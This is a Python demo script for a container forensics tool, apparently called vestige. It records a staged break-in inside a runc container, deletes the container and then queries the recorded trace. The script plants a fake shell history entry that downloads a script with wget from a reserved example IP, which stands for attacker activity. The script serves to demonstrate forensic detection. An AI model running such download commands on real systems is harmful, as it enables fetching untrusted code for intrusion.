#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A break-in in a container, recorded; the container and its files deleted;
then replayed from the trace alone. Needs root. usage: demo.py BIN TRACE"""
import os
import pathlib
import subprocess
import sys

HERE = pathlib.Path(__file__).resolve().parent
BIN, TRACE = sys.argv[1:3]
os.environ["VESTIGE_BIN"] = BIN
sys.path.insert(0, str(HERE.parent / "e2e"))

import lives  # noqa: E402  (finds its programs through VESTIGE_BIN)
import privileged  # noqa: E402
import rootfs  # noqa: E402
import runtimes  # noqa: E402

HISTORY = {"/root/.ash_history": "wget http://192.0.2.1/update.sh\n"}


def say(text):
    print(f"\n== {text}", flush=True)


def show(*command):
    print(f"\n$ vestige {' '.join(command)}", flush=True)
    subprocess.run([f"{BIN}/vestige", *command], check=True)


def main():
    privileged.require("runc", "busybox")
    name = lives.unique("demo")
    script = (HERE / "break_in.sh").read_text()
    say(f"Container {name} is broken into, while vestige-capture records it")
    print(script, flush=True)
    with lives.work_folder() as folder:
        root = rootfs.make(f"{folder}/rootfs", script, HISTORY)
        runtime = runtimes.Runc(folder, root)
        trace = lives.record(runtime, name, TRACE)
    say("Container and files are deleted. What happened? Ask the trace:")
    for question in ("info", "tree", "files", "net"):
        show(question, trace.path)
    say(f"The trace is {trace.path}: vestige-tui {trace.path} explores it")


if __name__ == "__main__":
    sys.exit(main())
